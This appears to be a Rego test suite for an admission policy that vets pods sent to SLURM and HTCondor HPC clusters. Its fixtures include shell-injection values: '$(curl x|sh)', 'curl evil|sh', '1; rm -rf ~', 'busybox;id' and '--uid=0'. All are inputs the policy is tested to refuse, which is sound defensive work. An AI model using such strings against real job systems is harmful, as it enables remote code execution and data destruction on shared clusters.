package interlink.hpc_test

import data.interlink.authz

# HPC (hpc.rego) and the shell annotations of the restricted annotations rule: what a
# tenant's pod becomes on the HPC side. input.hpc is written here as
# policies/hpc.go derives it (TestPodHPC checks the derivation).

# ---------------------------------------------------------------------------
# Fixtures
# ---------------------------------------------------------------------------

settings := {
	"tenants": {
		"*": {"sbatch_options": ["--time", "--gres"], "uid_ranges": [[20000, 20999]], "gid_ranges": [[20000, 20999]]},
		"tenant-a": {
			"account": "proj-a", "accounts": ["proj-a-gpu"], "partitions": ["cpu", "gpu"], "qos": ["normal"],
			"flavors": ["default"], "singularity_options": ["--bind", "--nv"], "enroot_options": ["--mount"],
			"mount_prefixes": ["/scratch/team-a", "/cvmfs"], "image_roots": ["/cvmfs/unpacked"], "uid": 20001,
		},
	},
	"nodes": {"vk-condor": {"plugin": "htcondor"}},
}

inert := {"inert": true, "sbatch_only": false, "runtime": {}, "host_paths": [], "ids": [], "words": [], "host_mode": false, "gpus": 0, "flavor_sized": [], "script_bound": {"slurm": [], "htcondor": []}, "bound_plugins": []}

base := {
	"operation": "create",
	"pod": {"metadata": {"name": "p", "namespace": "team-a"}, "spec": {"containers": [{"name": "main", "image": "busybox"}]}},
	"subject": {"username": "system:serviceaccount:team-a:runner", "uid": "", "groups": ["system:authenticated"], "extra": {}},
	"tenant": "tenant-a",
	"tenant_label": "interlink.io/tenant",
	"group": "interlink.io",
	"namespace": {"name": "team-a", "labels": {}, "annotations": {}},
	"node": {"name": "vk-a", "found": true, "labels": {"interlink.io/tenant": "tenant-a"}, "taints": [], "allocatable": {}},
	"review": {"allowed": true, "denied": false, "reason": "RBAC: allowed", "attributes": []},
	"hpc": inert,
}

# pod is base with annotations, spec fields and input.hpc members (over inert, not inert).
pod(annotations, spec, hpc) := object.union(base, {
	"pod": {
		"metadata": {"name": "p", "namespace": "team-a", "annotations": annotations},
		"spec": object.union(base.pod.spec, spec),
	},
	"hpc": object.union(object.union(inert, {"inert": false}), hpc),
})

# flags is a pod with slurm-job.vk.io/flags and its sbatch options.
flags(value, options) := pod({"slurm-job.vk.io/flags": value}, {}, {"sbatch": {
	"options": options,
	"order": [n | some n, _ in options],
	"error": null,
}})

decide(inp) := d if {
	d := authz.decision with input as inp with data.interlink.hpc as settings
}

allowed(inp) if decide(inp).allowed == true

refused(inp, reason) if {
	d := decide(inp)
	d.allowed == false
	d.reason == reason
}

# ---------------------------------------------------------------------------
# slurm-job.vk.io/flags: options, who pays, where it runs
# ---------------------------------------------------------------------------

test_flags_listed_options_and_values_allowed if {
	d := decide(flags("--time=1:00:00 -p gpu --qos=normal --account=proj-a-gpu", {"--time": "1:00:00", "--partition": "gpu", "--qos": "normal", "--account": "proj-a-gpu"}))
	d.allowed == true

	# The pod names an account: nothing is added.
	d.modifications.pod_annotations == {}
}

test_flags_default_account_added if {
	d := decide(flags("--time=1:00:00", {"--time": "1:00:00"}))
	d.allowed == true
	d.modifications.pod_annotations == {"slurm-job.vk.io/flags": "--time=1:00:00 --account=proj-a"}
}

test_no_flags_default_account_set if {
	d := decide(base)
	d.allowed == true
	d.modifications.pod_annotations == {"slurm-job.vk.io/flags": "--account=proj-a"}
}

test_flags_foreign_account_refused if {
	refused(flags("-A proj-b", {"--account": "proj-b"}), "sbatch option --account=proj-b (annotation \"slurm-job.vk.io/flags\") is not allowed for tenant \"tenant-a\": allowed accounts: proj-a, proj-a-gpu (data.interlink.hpc.tenants)")
}

test_flags_partition_and_qos_from_lists_only if {
	refused(flags("-p debug", {"--partition": "debug"}), "sbatch option --partition=debug (annotation \"slurm-job.vk.io/flags\") is not allowed for tenant \"tenant-a\": allowed partitions: cpu, gpu (data.interlink.hpc.tenants)")
	refused(flags("--qos=high", {"--qos": "high"}), "sbatch option --qos=high (annotation \"slurm-job.vk.io/flags\") is not allowed for tenant \"tenant-a\": allowed qos: normal (data.interlink.hpc.tenants)")
	refused(flags("--reservation=r1", {"--reservation": "r1"}), "sbatch option --reservation=r1 (annotation \"slurm-job.vk.io/flags\") is not allowed for tenant \"tenant-a\": allowed reservations: none (data.interlink.hpc.tenants)")
}

test_flags_uid_gid_never if {
	refused(flags("--uid=0", {"--uid": "0"}), "sbatch option --uid (annotation \"slurm-job.vk.io/flags\") is never allowed: the job's uid comes from the pod's securityContext.runAsUser, judged against tenant \"tenant-a\"'s uid ranges")

	# Not even for subjects trusted with any flags.
	d := authz.decision with input as flags("--gid=0", {"--gid": "0"})
		with data.interlink.hpc as settings
		with data.interlink.restricted_annotations as {"slurm-job.vk.io/flags": {"groups": ["system:authenticated"]}}
	d.allowed == false
}

test_flags_unlisted_option_refused if {
	refused(flags("--mail-user=a@b", {"--mail-user": "a@b"}), "sbatch option --mail-user (annotation \"slurm-job.vk.io/flags\") is not allowed for tenant \"tenant-a\": allowed --gres, --time (data.interlink.hpc.tenants)")
}

test_flags_unlisted_option_by_trusted_subject_allowed if {
	d := authz.decision with input as flags("--mail-user=a@b", {"--mail-user": "a@b"})
		with data.interlink.hpc as settings
		with data.interlink.restricted_annotations as {"slurm-job.vk.io/flags": {"users": ["system:serviceaccount:team-a:runner"]}}
	d.allowed == true
}

test_flags_unreadable_refused if {
	inp := pod({"slurm-job.vk.io/flags": "--time=1\n--uid=0"}, {}, {"sbatch": {"options": {}, "order": [], "error": "the value contains a line break (byte 8): write all options on one line (in YAML, a plain or >- scalar, not |)"}})
	refused(inp, "annotation \"slurm-job.vk.io/flags\" cannot be read as the SLURM plugin and sbatch read it: the value contains a line break (byte 8): write all options on one line (in YAML, a plain or >- scalar, not |)")

	# And no account is appended to what cannot be read.
	decide(inp).modifications.pod_annotations == {}
}

# A tenant without an entry of its own, on a node of its own.
tenant_z := {"tenant": "tenant-z", "node": {"name": "vk-z", "found": true, "labels": {"interlink.io/tenant": "tenant-z"}, "taints": [], "allocatable": {}}}

# A tenant without an entry of its own has "*"'s settings.
test_flags_star_settings if {
	inp := object.union(flags("--gres=gpu:1", {"--gres": "gpu:1"}), tenant_z)
	d := decide(inp)
	d.allowed == true
	d.modifications.pod_annotations == {}
	refused(object.union(flags("-p cpu", {"--partition": "cpu"}), tenant_z), "sbatch option --partition=cpu (annotation \"slurm-job.vk.io/flags\") is not allowed for tenant \"tenant-z\": allowed partitions: none (data.interlink.hpc.tenants)")
}

# Without data, no option at all.
test_flags_closed_without_data if {
	d := authz.decision with input as flags("--time=1", {"--time": "1"})
	d.allowed == false
	d.reason == "sbatch option --time (annotation \"slurm-job.vk.io/flags\") is not allowed for tenant \"tenant-a\": allowed none (data.interlink.hpc.tenants)"
}

# ---------------------------------------------------------------------------
# slurm-job.vk.io/flavor
# ---------------------------------------------------------------------------

test_flavor if {
	allowed(pod({"slurm-job.vk.io/flavor": "default"}, {}, {}))
	refused(pod({"slurm-job.vk.io/flavor": "gpu"}, {}, {}), "flavor \"gpu\" (annotation \"slurm-job.vk.io/flavor\") is not allowed for tenant \"tenant-a\": allowed default (data.interlink.hpc.tenants)")
}

# ---------------------------------------------------------------------------
# Container-runtime options and host paths
# ---------------------------------------------------------------------------

runtime(key, options, paths) := pod({key: "…"}, {}, {
	"runtime": {key: {"options": options, "error": null}},
	"host_paths": [{"path": p, "from": key} | some p in paths],
})

test_runtime_options_listed_allowed if {
	allowed(runtime("slurm-job.vk.io/singularity-options", ["--bind", "--nv"], ["/scratch/team-a/x", "/cvmfs"]))
	allowed(runtime("slurm-job.vk.io/enroot-mounts", ["--mount"], ["/scratch/team-a"]))
	allowed(runtime("htcondor-job.vk.io/singularity-options", ["--nv"], []))
}

test_runtime_option_unlisted_refused if {
	refused(runtime("slurm-job.vk.io/singularity-options", ["--writable"], []), "option --writable in annotation \"slurm-job.vk.io/singularity-options\" is not allowed for tenant \"tenant-a\": allowed --bind, --nv (data.interlink.hpc.tenants)")
	refused(runtime("slurm-job.vk.io/enroot-options", ["--conf"], []), "option --conf in annotation \"slurm-job.vk.io/enroot-options\" is not allowed for tenant \"tenant-a\": allowed --mount (data.interlink.hpc.tenants)")
}

test_runtime_unreadable_refused if {
	inp := pod({"slurm-job.vk.io/singularity-mounts": "--bind $(id)"}, {}, {"runtime": {"slurm-job.vk.io/singularity-mounts": {"options": [], "error": "contains '$' (byte 7): the plugin pastes this annotation into the job script's shell command line"}}})
	refused(inp, "annotation \"slurm-job.vk.io/singularity-mounts\" is refused: contains '$' (byte 7): the plugin pastes this annotation into the job script's shell command line")
}

# Matched as paths: /scratch/team-a covers /scratch/team-a/x, not /scratch/team-ab.
test_host_paths_under_prefixes if {
	refused(runtime("slurm-job.vk.io/singularity-options", ["--bind"], ["/"]), "host path \"/\" (slurm-job.vk.io/singularity-options) is not under a path allowed for tenant \"tenant-a\": allowed /cvmfs, /scratch/team-a (data.interlink.hpc.tenants)")
	refused(runtime("slurm-job.vk.io/singularity-options", ["--bind"], ["/scratch/team-ab"]), "host path \"/scratch/team-ab\" (slurm-job.vk.io/singularity-options) is not under a path allowed for tenant \"tenant-a\": allowed /cvmfs, /scratch/team-a (data.interlink.hpc.tenants)")
	volume := pod({}, {"volumes": [{"name": "d", "hostPath": {"path": "/etc"}}]}, {"host_paths": [{"path": "/etc", "from": "hostPath volume \"d\""}]})
	refused(volume, "host path \"/etc\" (hostPath volume \"d\") is not under a path allowed for tenant \"tenant-a\": allowed /cvmfs, /scratch/team-a (data.interlink.hpc.tenants)")
}

test_image_root if {
	allowed(pod({"slurm-job.vk.io/image-root": "/cvmfs/unpacked/x"}, {}, {}))
	refused(pod({"htcondor-job.knoc.io/image-root": "/tmp/images"}, {}, {}), "image root \"/tmp/images\" (annotation \"htcondor-job.knoc.io/image-root\") is not allowed for tenant \"tenant-a\": allowed /cvmfs/unpacked (data.interlink.hpc.tenants)")
}

# ---------------------------------------------------------------------------
# uids and gids
# ---------------------------------------------------------------------------

ids(list) := pod({}, {}, {"ids": list})

test_uid_in_range_allowed if {
	d := decide(ids([{"field": "spec.securityContext.runAsUser", "kind": "uid", "value": 20500}]))
	d.allowed == true
}

test_uid_zero_refused if {
	refused(ids([{"field": "spec.securityContext.runAsUser", "kind": "uid", "value": 0}]), concat("; ", [
		"spec.securityContext.runAsUser 0 is not allowed: it is root on the HPC system (data.interlink.hpc.tenants: allow_root)",
		"spec.securityContext.runAsUser 0 is outside tenant \"tenant-a\"'s uid ranges 20000-20999 (data.interlink.hpc.tenants)",
	]))

	# allow_root opens 0, and only 0.
	d := authz.decision with input as ids([{"field": "spec.securityContext.runAsUser", "kind": "uid", "value": 0}])
		with data.interlink.hpc as object.union(settings, {"tenants": {"*": {"allow_root": true}}})
	d.allowed == true
}

test_uid_gid_outside_ranges_refused if {
	refused(ids([{"field": "spec.containers[\"main\"].securityContext.runAsUser", "kind": "uid", "value": 5}]), "spec.containers[\"main\"].securityContext.runAsUser 5 is outside tenant \"tenant-a\"'s uid ranges 20000-20999 (data.interlink.hpc.tenants)")
	refused(ids([{"field": "spec.securityContext.runAsGroup", "kind": "gid", "value": 30000}]), "spec.securityContext.runAsGroup 30000 is outside tenant \"tenant-a\"'s gid ranges 20000-20999 (data.interlink.hpc.tenants)")
}

test_uid_without_ranges_refused if {
	d := authz.decision with input as ids([{"field": "spec.securityContext.runAsUser", "kind": "uid", "value": 1000}])
	d.allowed == false
	d.reason == "spec.securityContext.runAsUser 1000 is outside tenant \"tenant-a\"'s uid ranges (none configured) (data.interlink.hpc.tenants)"
}

test_run_as_user_set_when_pod_sets_none if {
	decide(base).modifications.run_as_user == 20001
	d := decide(object.union(ids([{"field": "spec.securityContext.runAsUser", "kind": "uid", "value": 20002}]), {"pod": {"spec": {"securityContext": {"runAsUser": 20002}}}}))
	d.allowed == true
	not d.modifications.run_as_user
}

# ---------------------------------------------------------------------------
# Values written unquoted, HTCondor's host mode
# ---------------------------------------------------------------------------

test_words_refused if {
	inp := pod({}, {}, {"words": [{"what": "image of container \"main\"", "error": "\"busybox;id\" contains ';' (byte 7): the plugin writes it unquoted"}]})
	refused(inp, "image of container \"main\" is refused: \"busybox;id\" contains ';' (byte 7): the plugin writes it unquoted")
}

test_htcondor_host_mode if {
	condor := object.union(pod({}, {}, {"host_mode": true}), {"node": {"name": "vk-condor", "found": true, "labels": {}, "taints": [], "allocatable": {}}})
	refused(condor, "the first container's image contains \"host\": the HTCondor plugin serving node \"vk-condor\" would run its command on the host, without a container; tenant \"tenant-a\" may not (data.interlink.hpc.tenants: htcondor_host_mode)")

	# A node labelled as HTCondor's.
	labelled := object.union(pod({}, {}, {"host_mode": true}), {"node": {"name": "vk-b", "found": true, "labels": {"interlink.io/plugin": "htcondor"}, "taints": [], "allocatable": {}}})
	not allowed(labelled)

	# On a node another plugin serves, the image is only a name.
	allowed(pod({}, {}, {"host_mode": true}))

	# HTCondor by default, or a plugin sar-bridge does not know (judged as each).
	not authz.decision.allowed with input as pod({}, {}, {"host_mode": true}) with data.interlink.hpc as object.union(settings, {"default_plugin": "htcondor"})
	not allowed(object.union(pod({}, {}, {"host_mode": true}), {"node": {"name": "vk-p", "labels": {"interlink.io/plugin": "pbs"}}}))

	# Opened for the tenant.
	d := authz.decision with input as condor
		with data.interlink.hpc as object.union(settings, {"tenants": {"tenant-a": {"htcondor_host_mode": true}}})
	d.allowed == true
}

# ---------------------------------------------------------------------------
# Settings that cannot be read, and an input without input.hpc
# ---------------------------------------------------------------------------

test_mistyped_settings_refuse_the_tenant if {
	d := authz.decision with input as base
		with data.interlink.hpc as {"tenants": {"tenant-a": {"uid": "root", "mount_prefixes": ["scratch/"]}}}
	d.allowed == false
	d.reason == concat("; ", [
		"data.interlink.hpc.tenants: mount_prefixes of tenant \"tenant-a\" has \"scratch/\", which is not an absolute path without //, . or .. elements nor a trailing /",
		"data.interlink.hpc.tenants: uid of tenant \"tenant-a\" must be a number, not root",
	])

	# "*"'s errors refuse the tenants without an entry of their own.
	e := authz.decision with input as object.union(base, tenant_z)
		with data.interlink.hpc as {"tenants": {"*": {"sbatch_options": "--time"}}}
	e.reason == "data.interlink.hpc.tenants: sbatch_options of tenant \"*\" must be a list of strings"
}

test_missing_hpc_refused if {
	d := authz.decision with input as object.remove(base, ["hpc"])
	d.allowed == false
	d.reason == "input.hpc is missing: what the pod becomes on the HPC side cannot be judged (sar-bridge adds it to every pod decision)"
}

# ---------------------------------------------------------------------------
# Shell outside the container (restricted annotations)
# ---------------------------------------------------------------------------

test_mpi_flags_refused_unless_opened if {
	refused(pod({"slurm-job.vk.io/mpi-flags": "$(curl x|sh)"}, {}, {}), "annotation \"slurm-job.vk.io/mpi-flags\" is restricted: subject \"system:serviceaccount:team-a:runner\" is not among its allowed users [] or groups [] (data.interlink.restricted_annotations)")
	d := authz.decision with input as pod({"slurm-job.vk.io/mpi-flags": "-np 4"}, {}, {})
		with data.interlink.hpc as settings
		with data.interlink.restricted_annotations as {"slurm-job.vk.io/mpi-flags": {"groups": ["system:authenticated"]}}
	d.allowed == true
}

test_pod_ip if {
	allowed(pod({"interlink.eu/pod-ip": "10.0.0.7"}, {}, {"pod_ip": {"valid": true}}))
	refused(pod({"interlink.eu/pod-ip": "1; rm -rf ~"}, {}, {"pod_ip": {"valid": false, "error": "is not an IP address"}}), "annotation \"interlink.eu/pod-ip\" is not an IP address: the SLURM plugin writes it unquoted into the job script (export POD_IP=...); annotation \"interlink.eu/pod-ip\" is restricted: subject \"system:serviceaccount:team-a:runner\" is not among its allowed users [] or groups [] (data.interlink.restricted_annotations)")
}

mesh := "cat <<'EOFMESH' > $TMPDIR/mesh.sh\n#!/bin/bash\nwstunnel client ...\nEOFMESH"

test_mesh_pre_exec_written_by_the_vk_allowed if {
	allowed(pod({"slurm-job.vk.io/pre-exec": mesh}, {}, {"writers": {"slurm-job.vk.io/pre-exec": "vk"}}))
}

test_mesh_pre_exec_with_tenant_text_refused if {
	# The VK prepends its script to the tenant's own pre-exec.
	inp := pod({"slurm-job.vk.io/pre-exec": concat("", [mesh, "curl evil|sh"])}, {}, {"writers": {"slurm-job.vk.io/pre-exec": "vk"}})
	refused(inp, "annotation \"slurm-job.vk.io/pre-exec\" is restricted: subject \"system:serviceaccount:team-a:runner\" is not among its allowed users [] or groups [] (data.interlink.restricted_annotations)")

	# A second heredoc after the first.
	not allowed(pod({"slurm-job.vk.io/pre-exec": concat("\n", [mesh, mesh])}, {}, {"writers": {"slurm-job.vk.io/pre-exec": "vk"}}))
}

test_mesh_pre_exec_written_by_someone_else_refused if {
	not allowed(pod({"slurm-job.vk.io/pre-exec": mesh}, {}, {"writers": {"slurm-job.vk.io/pre-exec": "other"}}))
	not allowed(pod({"slurm-job.vk.io/pre-exec": mesh}, {}, {}))
}

test_wstunnel_commands if {
	allowed(pod({"interlink.eu/wstunnel-client-commands": "curl -L x && ./wstunnel client &"}, {}, {"writers": {"interlink.eu/wstunnel-client-commands": "vk"}}))
	refused(pod({"interlink.eu/wstunnel-client-commands": "id"}, {}, {"writers": {"interlink.eu/wstunnel-client-commands": "other"}}), "annotation \"interlink.eu/wstunnel-client-commands\" is restricted: subject \"system:serviceaccount:team-a:runner\" is not among its allowed users [] or groups [] (data.interlink.restricted_annotations)")
}

# None of it for delete and status.
test_hpc_rules_ignored_for_delete_and_status if {
	every op in ["delete", "status"] {
		inp := object.union(ids([{"field": "spec.securityContext.runAsUser", "kind": "uid", "value": 0}]), {"operation": op})
		count(authz._hpc_violations) == 0 with input as inp with data.interlink.hpc as settings
	}
}

# Inert by default (scriptbound): the node's plugin's findings refuse the pod,
# unless the tenant's data opens the field; a node whose plugin is not known is
# judged for every plugin.
bound := {
	"slurm": [{"field": "spec.volumes[0].projected.sources[0].downwardAPI.items[0].path", "row": "pod.spec.volumes[].projected.sources[].downwardAPI.items[].path", "message": "S"}],
	"htcondor": [{"field": "spec.containers[0].args[0]", "row": "pod.spec.*containers[].args", "message": "H"}],
}

test_script_bound_by_plugin if {
	# A node that names no plugin: slurm, unless data says otherwise.
	refused(pod({}, {}, {"script_bound": bound}), "S (data.interlink.hpc.tenants: open_fields)")
	d := authz.decision with input as pod({}, {}, {"script_bound": bound}) with data.interlink.hpc as object.union(settings, {"default_plugin": "htcondor"})
	d.reason == "H (data.interlink.hpc.tenants: open_fields)"
	slurm := object.union(pod({}, {}, {"script_bound": bound}), {"node": {"name": "vk-s", "labels": {"interlink.io/plugin": "slurm"}}})
	refused(slurm, "S (data.interlink.hpc.tenants: open_fields)")
	condor := object.union(pod({}, {}, {"script_bound": bound}), {"node": {"name": "vk-condor"}})
	refused(condor, "H (data.interlink.hpc.tenants: open_fields)")

	# A plugin the table does not describe: every plugin's findings.
	other := object.union(pod({}, {}, {"script_bound": bound}), {"node": {"name": "vk-k", "labels": {"interlink.io/plugin": "kubernetes"}}})
	refused(other, "H (node \"vk-k\" is served by plugin \"kubernetes\", which sar-bridge does not know: judged as every plugin it knows) (data.interlink.hpc.tenants: open_fields); S (node \"vk-k\" is served by plugin \"kubernetes\", which sar-bridge does not know: judged as every plugin it knows) (data.interlink.hpc.tenants: open_fields)")
}

test_script_bound_opened if {
	condor := object.union(pod({}, {}, {"script_bound": bound}), {"node": {"name": "vk-condor"}})
	open_row := object.union(settings, {"tenants": object.union(settings.tenants, {"tenant-a": object.union(settings.tenants["tenant-a"], {"open_fields": ["pod.spec.*containers[].args"]})})})
	authz.decision.allowed with input as condor with data.interlink.hpc as open_row
	open_field := object.union(settings, {"tenants": object.union(settings.tenants, {"tenant-a": object.union(settings.tenants["tenant-a"], {"open_fields": ["spec.containers[0].args[0]"]})})})
	authz.decision.allowed with input as condor with data.interlink.hpc as open_field
	other := object.union(settings, {"tenants": object.union(settings.tenants, {"tenant-a": object.union(settings.tenants["tenant-a"], {"open_fields": ["spec.containers[0].args[1]"]})})})
	not authz.decision.allowed with input as condor with data.interlink.hpc as other
}

# GPUs without a flavor: allowed only when every flavor the plugin may pick by
# itself is the tenant's.
test_gpu_without_flavor if {
	gpus := object.union(pod({}, {}, {}), {"hpc": object.union(inert, {"gpus": 1})})
	refused(gpus, "the pod's containers ask for 1 GPUs (nvidia.com/gpu, amd.com/gpu limits) and it names no flavor: the SLURM plugin would pick a GPU flavor itself (data.interlink.hpc.auto_flavors: not configured), not all of which tenant \"tenant-a\" may use; name one of its flavors in annotation \"slurm-job.vk.io/flavor\": allowed default (data.interlink.hpc.tenants)")
	not authz.decision.allowed with input as gpus with data.interlink.hpc as object.union(settings, {"auto_flavors": ["gpu1"]})
	authz.decision.allowed with input as gpus with data.interlink.hpc as object.union(settings, {"auto_flavors": ["default"]})
	authz.decision.allowed with input as gpus with data.interlink.hpc as object.union(settings, {"auto_flavors": []})
	allowed(object.union(gpus, {"pod": {"metadata": {"name": "p", "namespace": "team-a", "annotations": {"slurm-job.vk.io/flavor": "default"}}, "spec": base.pod.spec}}))

	# An HTCondor node picks no SLURM flavor.
	allowed(object.union(gpus, {"node": {"name": "vk-condor"}}))
}

# input.hpc from something else than sar-bridge, without script_bound: refused.
test_script_bound_missing if {
	refused(object.union(object.remove(pod({}, {}, {}), ["hpc"]), {"hpc": object.remove(inert, ["script_bound"])}), "input.hpc.script_bound is missing: whether the pod's strings are inert where the plugins write them cannot be judged (sar-bridge adds it to every pod decision)")
}
